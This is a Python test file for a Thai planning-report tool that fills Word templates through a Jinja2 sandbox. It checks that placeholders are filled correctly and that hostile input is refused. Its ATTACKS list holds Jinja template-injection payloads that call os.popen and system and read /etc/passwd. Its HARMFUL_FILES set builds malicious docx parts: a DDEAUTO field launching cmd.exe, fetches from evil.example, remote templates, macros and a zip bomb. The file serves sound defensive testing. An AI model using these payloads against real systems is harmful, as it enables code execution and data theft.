"""An office's own template: filled, what is unknown and empty told before; a hostile one runs nothing."""

import io
import re
from dataclasses import replace
from pathlib import Path

import docx
import pytest
from jinja2.exceptions import SecurityError
from jinja2.sandbox import SandboxedEnvironment

from analysis.logic_model.plan import Plan
from reports.logic_model.template_child import TemplateLanguage, fill_template, look_at_template
from reports.logic_model.template_values import PLACEHOLDERS, sample_template_bytes, template_values
from tests.reports.logic_model.making import ABOUT, PAPER, SAID_OF_SAVING, VOTED
from tests.reports.logic_model.templates import bomb, lines, saved, template, with_parts

VALUES = template_values(PAPER, ABOUT)
KNOWN = list(PLACEHOLDERS)
HEADER = "ใช้ภายในสำนักงาน · ข้อมูลสังเคราะห์"


def faults(content: bytes) -> list[str]:
    """Why it is not filled; looking at it says the same, and nothing is filled."""
    filled, found = fill_template(content, VALUES, HEADER)
    assert bool(found) == (filled == b"")
    assert look_at_template(content, VALUES, KNOWN)["faults"] == found
    assert all(what and fix for what, fix in found)
    return [what for what, _ in found]


def test_texts_loops_and_choices_are_filled() -> None:
    content = template(
        "แผน {{ plan_title }} ของ{{area}}", "{%p for one in projects %}",
        "{{ loop.index }}. {{ one.name }} {{ one.budget }}",
        "{%p for each in one.activities %}", "- {{ each.text }}", "{%p endfor %}", "{%p endfor %}",
        "{% if capital %}มีทุน{% else %}ไม่มีทุน{% endif %}", header="{{ fiscal_year }}",
    )  # fmt: skip
    filled, found = fill_template(content, VALUES, HEADER)
    assert found == []
    assert [each for each in lines(filled) if each] == [
        "แผน แผนชุมชนตัวอย่าง ของตำบลตลาดใหญ่", "1. ออมวันละบาท 12,500.50", "- ตั้งกลุ่มออมทรัพย์", "- ติดตามกลุ่ม",
        "2. เดินเพื่อสุขภาพ ไม่ใช้งบประมาณ",
        "3. ยังไม่คิดเงิน ยังไม่ระบุ", "ไม่มีทุน",
    ]  # fmt: skip
    header = docx.Document(io.BytesIO(filled)).sections[0].header
    assert [each.text for each in header.paragraphs] == [HEADER, "2570"]


def test_unknown_and_empty_placeholders_are_told_before_filling() -> None:
    content = template(
        "{{ plan_titel }}", "{{ area }}", "{{ capital }}",
        "{% for p in projects %}{{ p.owner }}{{ p.boss }}{{ loop.evil }}{% endfor %}",
        "{% for p in persons %}{{ p.name }}{% endfor %}",
    )  # fmt: skip
    look = look_at_template(content, VALUES, KNOWN)
    assert look == {
        "faults": [], "used": ["area", "capital", "projects", "projects.owner"],
        "unknown": ["loop.evil", "persons", "persons.name", "plan_titel", "projects.boss"],
        "empty": [("capital", 1, 1), ("projects.owner", 2, 3)],
    }  # fmt: skip
    filled, found = fill_template(content, VALUES, HEADER)
    assert found == []
    assert lines(filled) == ["", "ตำบลตลาดใหญ่", "", "สำนักงานพัฒนาชุมชน", ""]


def test_the_sample_has_every_placeholder_and_is_filled_whole() -> None:
    sample = sample_template_bytes()
    look = look_at_template(sample, VALUES, KNOWN)
    assert (look["faults"], look["unknown"]) == ([], [])
    assert look["used"] == sorted(PLACEHOLDERS)
    filled, _ = fill_template(sample, VALUES, HEADER)
    assert "{" not in "\n".join(lines(filled))
    assert "ผลที่คาดว่าจะได้รับ: ออมเงินเพิ่ม" in lines(filled)
    empty = template_values(
        replace(PAPER, plan=Plan(area_code="83", set_id="x", year_be=1, fiscal_year_be=2570)), ABOUT
    )
    assert look_at_template(sample, empty, KNOWN)["unknown"] == []


def test_values_name_every_placeholder_and_no_other() -> None:
    def names(value: object, above: str = "") -> set[str]:
        if isinstance(value, list):
            return {name for each in value for name in names(each, above)}
        if isinstance(value, dict):
            return {f"{above}{key}" for key in value} | {
                n for key, each in value.items() for n in names(each, f"{above}{key}.")
            }
        return set()

    assert names(VALUES) == set(PLACEHOLDERS)


def test_what_the_plan_says_is_text_and_never_markup_or_a_template() -> None:
    hostile = "{{ mark }}{% include 'x' %}</w:t></w:r><w:fldSimple w:instr=\"DDE\"/> & <b>"
    filled, found = fill_template(template("{{ plan_title }}"), VALUES | {"plan_title": hostile}, HEADER)
    assert found == []
    assert lines(filled) == [hostile]


ATTACKS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ plan_title.__class__ }}",
    "{{ cycler.__init__.__globals__.os.popen('touch CANARY').read() }}",
    "{{ lipsum.__globals__['os'].system('touch CANARY') }}",
    "{{ self._TemplateReference__context }}",
    "{{ plan_title|attr('__class__') }}",
    "{{ plan_title|map('upper') }}",
    "{{ plan_title['__class__'] }}",
    "{{ plan_title.upper() }}",
    "{{ open('/etc/passwd').read() }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% from 'os' import system %}",
    "{% extends '/etc/passwd' %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% set x = ''.__class__ %}{{ x }}",
    "{% set ns = namespace(a=1) %}",
    "{% for i in range(99999999) %}x{% endfor %}",
    "{% for p in projects recursive %}{{ loop(projects) }}{% endfor %}",
    "{{ 'a' * 999999999 }}",
    "{{ 10 ** 10 ** 10 }}",
    "{{ 'a' ~ plan_title }}",
    "{{ '%999999999d' % 1 }}",
    "{{ plan_title[:1] }}",
    "{{ ('<w:p/>')|safe }}",
    "{% filter upper %}x{% endfilter %}",
    "{% call x() %}{% endcall %}",
    "{% block a %}{% endblock %}",
    "{% with a = 1 %}{% endwith %}",
    "{% autoescape false %}{{ area }}{% endautoescape %}",
    "{% raw %}{% endraw %}{% do x %}",
    "{{ plan_title is callable }}",
    "{{ [1, 2] }}",
    "{{ unclosed",
    "{% for p in projects %}",
    "".join("{% for a in projects %}" for _ in range(4)) + "".join("{% endfor %}" for _ in range(4)),
    "{%p set x = 1 %}",
    "{%tr include 'x' %}",
    "{{r plan_title.__class__ }}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_the_body_is_refused_and_runs_nothing(
    attack: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert len(faults(template("ก่อน", attack))) == 1
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("where", ["header", "title", "run by run"])
def test_an_attack_elsewhere_is_refused_too(where: str) -> None:
    attack = "{{ cycler.__init__ }}"
    document = docx.Document()
    if where == "header":
        document.sections[0].header.paragraphs[0].text = attack
    elif where == "title":
        document.core_properties.title = attack
    else:
        paragraph = document.add_paragraph()
        for letter in attack:
            paragraph.add_run(letter)
    assert len(faults(saved(document))) == 1


def test_the_language_is_jinjas_sandbox_and_holds_without_our_list() -> None:
    environment = TemplateLanguage(())
    assert isinstance(environment, SandboxedEnvironment)
    assert environment.globals == {}
    bare = TemplateLanguage(())
    bare._parse = super(TemplateLanguage, bare)._parse
    assert bare.from_string("{{ x.__class__.__mro__ }}{{ x._private }}").render(x="") == ""
    with pytest.raises(SecurityError):
        bare.from_string("{{ x.__class__.mro() }}").render(x="")


PLAIN = template("{{ area }}")
RELATIONS = "word/_rels/document.xml.rels"
END = "</Relationships>"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    added = f'<Relationship Id="rId99" Type="{KIND}{kind}" Target="{target}"{mode}/>{END}'
    return with_parts(PLAIN, {RELATIONS: (END, added)})


def field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    code = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return with_parts(template("ก"), {"word/document.xml": ("<w:p>", f"<w:p>{code}")})


HARMFUL_FILES = {
    "another template": relation("attachedTemplate", "http://evil.example/a.dotm"),
    "linked picture": relation("image", "\\\\\\\\evil\\\\share\\\\a.png"),
    "linked object": relation("oleObject", "file:///c:/a.xlsx"),
    "included file": relation("aFChunk", "/word/a.html", ""),
    "sub document": relation("subDocument", "file:///c:/a.docx"),
    "link to a file": relation("hyperlink", "file://evil/share"),
    "macro": with_parts(PLAIN, {"word/vbaProject.bin": b"x"}),
    "embedded program": with_parts(PLAIN, {"word/embeddings/oleObject1.bin": b"x"}),
    "active x": with_parts(PLAIN, {"word/activeX/activeX1.xml": b"<a/>"}),
    "macro type": with_parts(
        PLAIN, {"[Content_Types].xml": ("wordprocessingml.document.main+xml", "macroEnabled.main+xml")}
    ),
    "entity": with_parts(PLAIN, {"word/document.xml": ("<w:document", '<!DOCTYPE a [<!ENTITY x "y">]><w:document')}),
    "field that runs": field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
    "field in pieces": field("D", "DE", " x"),
    "field that fetches": field('INCLUDEPICTURE "http://evil.example/a.png"'),
    "field to a share": field('HYPERLINK "\\\\\\\\evil\\\\share"'),
    "field by the plan": field("{{ plan_title }}"),
    "simple field": with_parts(
        template("ก"), {"word/document.xml": ("<w:p>", '<w:p><w:fldSimple w:instr="INCLUDETEXT a"/>')}
    ),
    "many parts": with_parts(PLAIN, {f"word/media/{number}.png": b"" for number in range(501)}),
    "no zip": b"PK\x03\x04 not a zip",
    "nothing": b"",
    "another zip": with_parts(PLAIN, {"[Content_Types].xml": b"<Types/>"}),
    "broken part": with_parts(PLAIN, {"word/document.xml": b"<w:document"}),
    "broken size": re.sub(rb"PK\x01\x02", b"PK\x01\x03", PLAIN),
}


@pytest.mark.parametrize("name", HARMFUL_FILES)
def test_a_harmful_file_is_refused_before_it_is_opened(name: str) -> None:
    assert faults(HARMFUL_FILES[name])


def test_a_file_that_unpacks_to_much_more_is_refused_before_it_is_unpacked() -> None:
    assert len(faults(bomb())) == 1


def test_links_to_the_web_and_fields_that_count_are_kept() -> None:
    assert faults(relation("hyperlink", "https://example.org")) == []
    assert faults(field("PA", "GE ")) == []
    assert faults(field('TOC \\o "1-2" \\h')) == []


def test_values_come_from_the_paper_as_it_is_printed() -> None:
    hidden = replace(PAPER, hidden=frozenset({("problem-1", "failed")}))
    assert template_values(hidden, ABOUT)["problems"][0]["failed"] == "ไม่แสดง"
    assert VALUES["total_budget"] == "12,500.50"
    assert (VALUES["problems"][0]["votes"], template_values(VOTED, ABOUT)["problems"][0]["votes"]) == (
        "",
        SAID_OF_SAVING,
    )
    assert [each["activities"] for each in VALUES["projects"][1:]] == [[], []]
